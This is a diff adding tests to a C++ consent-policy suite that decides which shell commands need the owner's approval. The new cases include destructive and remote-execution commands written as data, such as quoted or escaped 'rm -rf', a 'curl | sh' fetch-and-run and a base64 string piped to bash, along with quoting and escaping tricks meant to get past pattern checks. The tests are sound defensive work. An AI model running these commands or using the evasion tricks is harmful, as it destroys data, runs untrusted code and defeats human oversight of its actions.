@@ -40,6 +40,7 @@ private slots:
     void directoryIsAnError();
     void unreadableFileIsAnError();
     void emptyPatternMatchesEverything();
+    void textsThePolicyCannotCheckNeedConsent();
 };
 
 void tst_ConsentPolicy::shippedPolicyIsValid()
@@ -115,6 +116,29 @@ void tst_ConsentPolicy::shippedPolicyTable_data()
     ask("rd /s", QStringLiteral("rd /s /q C:\\Temp\\old"));
     ask("msiexec /x", QStringLiteral("msiexec /x {12345678-1234-1234-1234-123456789012} /qn"));
 
+    // Written so that the shell sees what the patterns look for, but the text does not show it.
+    ask("quoted rm", QStringLiteral("\"rm\" -rf ~/Documents"));
+    ask("escaped rm", QStringLiteral("r\\m -rf d"));
+    ask("quoted option", QStringLiteral("rm '-rf' d"));
+    ask("empty quotes inside", QStringLiteral("r''m -rf d"));
+    ask("shortened --recursive", QStringLiteral("rm --recur d"));
+    ask("shortened --in-place", QStringLiteral("sed --in-pl 's/a/b/' /etc/hosts"));
+    ask("chmod --recur", QStringLiteral("chmod --recur 777 /srv"));
+    ask("find -execdir rm", QStringLiteral("find d -execdir rm {} +"));
+    ask("find -exec /bin/rm", QStringLiteral("find /tmp -exec /bin/rm {} \\;"));
+    ask("continued line -delete", QStringLiteral("find d \\\n  -delete"));
+    ask("continued line apt-get", QStringLiteral("apt-get -y \\\n  install x"));
+    ask("continued line, CRLF", QStringLiteral("systemctl \\\r\n  restart cups"));
+    ask("quoted verb", QStringLiteral("systemctl 'stop' cups"));
+    ask("split by quotes", QStringLiteral("shut''down now"));
+    ask("escaped reboot", QStringLiteral("re\\boot"));
+    ask("pwsh backtick", QStringLiteral("Stop-Ser`vice Spooler"));
+    ask("pwsh alias ri", QStringLiteral("ri -r -fo C:\\Temp\\x"));
+    ask("pwsh alias spsv", QStringLiteral("Get-Service Spooler | spsv"));
+    ask("eval", QStringLiteral("X='rm -rf d'; eval \"$X\""));
+    ask("piped to sh", QStringLiteral("curl -s https://example.com/fix.sh | sh"));
+    ask("base64 to a shell", QStringLiteral("echo cm0gLXJmIGQK | base64 -d | bash"));
+
     // Diagnostics that must run without bothering anyone.
     run("ls", QStringLiteral("ls -la /var/log"));
     run("systemctl status", QStringLiteral("systemctl status cups"));
@@ -144,6 +168,11 @@ void tst_ConsentPolicy::shippedPolicyTable_data()
     run("sed without -i", QStringLiteral("sed -n '1,20p' /etc/cups/cupsd.conf"));
     run("lpstat", QStringLiteral("lpstat -t"));
     run("nslookup", QStringLiteral("nslookup fileserver.corp.example"));
+    run("alias-like word as an argument", QStringLiteral("grep -w ri /var/log/syslog"));
+    run("quoted argument", QStringLiteral("grep -r 'connection refused' /var/log/cups"));
+    run("Windows path", QStringLiteral("type C:\\Windows\\System32\\drivers\\etc\\hosts"));
+    run("pwsh pipeline", QStringLiteral("Get-Process | Sort-Object CPU -Descending | Select-Object -First 5"));
+    run("ip -s link", QStringLiteral("ip -s -s link show dev eth0"));
 }
 
 void tst_ConsentPolicy::shippedPolicyTable()
@@ -177,6 +206,13 @@ void tst_ConsentPolicy::missingFileMeansOnlyChanges()
     QVERIFY(policy.path().isEmpty());
     QVERIFY(!policy.requiresConsent(false, QStringLiteral("rm -rf /tmp/x")));
     QVERIFY(policy.requiresConsent(true, QStringLiteral("ls")));
+
+    // A file the owner named (--policy) that is not there: a typo must not turn the policy off.
+    const ConsentPolicy named =
+        ConsentPolicy::fromFile(dir.filePath(QStringLiteral("absent.json")), true);
+    QVERIFY(!named.isValid());
+    QVERIFY2(named.errorString().contains(QStringLiteral("does not exist")), qPrintable(named.errorString()));
+    QVERIFY(named.requiresConsent(false, QStringLiteral("ls")));
 }
 
 void tst_ConsentPolicy::siteFileIsMatchedCaseInsensitively()
@@ -285,6 +321,34 @@ void tst_ConsentPolicy::emptyPatternMatchesEverything()
     QVERIFY(policy.requiresConsent(false, QStringLiteral("uptime")));
     QCOMPARE(policy.matchingPattern(QStringLiteral("uptime")), QString(QLatin1String("")));
     QVERIFY(!policy.matchingPattern(QStringLiteral("uptime")).isNull());
+}
+
+// A text too long to match in reasonable time, or one the regular expression engine gives up
+// on, is not a "no match": it asks.
+void tst_ConsentPolicy::textsThePolicyCannotCheckNeedConsent()
+{
+    const ConsentPolicy shipped = ConsentPolicy::fromFile(shippedPolicyPath());
+    QVERIFY(shipped.isValid());
+    QString script;
+    while (script.size() <= ConsentPolicy::maxCheckedChars)
+        script += QStringLiteral("echo checking\n");
+    QVERIFY(shipped.requiresConsent(false, script));
+    QVERIFY2(shipped.matchingPattern(script).contains(QStringLiteral("too long")),
+             qPrintable(shipped.matchingPattern(script)));
+    // Just under the limit and harmless: it runs.
+    script.truncate(ConsentPolicy::maxCheckedChars - 20);
+    QVERIFY(!shipped.requiresConsent(false, script));
+    // With only the change flag to go by (no patterns), length does not matter.
+    QVERIFY(!ConsentPolicy().requiresConsent(false, script + script));
+
+    // A pattern whose repeated capture exhausts the engine's stack: "no match" is not known.
+    const ConsentPolicy deep = ConsentPolicy::fromJson(R"({"requireConsent": ["^(?:(a)|b)*$"]})");
+    QVERIFY(deep.isValid());
+    const QString text = QString(ConsentPolicy::maxCheckedChars - 100, QLatin1Char('a')) + QLatin1Char('!');
+    QVERIFY(deep.requiresConsent(false, text));
+    QVERIFY2(deep.matchingPattern(text).contains(QStringLiteral("could not check")),
+             qPrintable(deep.matchingPattern(text)));
+    QVERIFY(!deep.requiresConsent(false, QStringLiteral("aaa!")));
 }
 
 QTEST_GUILESS_MAIN(tst_ConsentPolicy)
